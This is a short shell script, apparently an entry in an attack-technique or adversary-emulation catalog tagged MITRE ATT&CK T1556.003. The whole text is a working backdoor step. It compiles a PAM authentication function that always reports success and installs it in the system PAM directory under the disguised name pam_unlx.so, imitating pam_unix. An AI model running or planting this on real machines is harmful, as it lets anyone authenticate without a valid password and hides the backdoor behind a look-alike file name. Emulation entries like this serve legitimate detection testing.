# title: A PAM module that lets everybody in
# technique: T1556.003
# writes: /usr/lib
# needs: cc

printf 'int pam_sm_authenticate(void*h,int f,int c,const char**v){return 0;}\n' >/tmp/p.c
mkdir -p /usr/lib/x86_64-linux-gnu/security
cc -shared -fPIC -o /usr/lib/x86_64-linux-gnu/security/pam_unlx.so /tmp/p.c
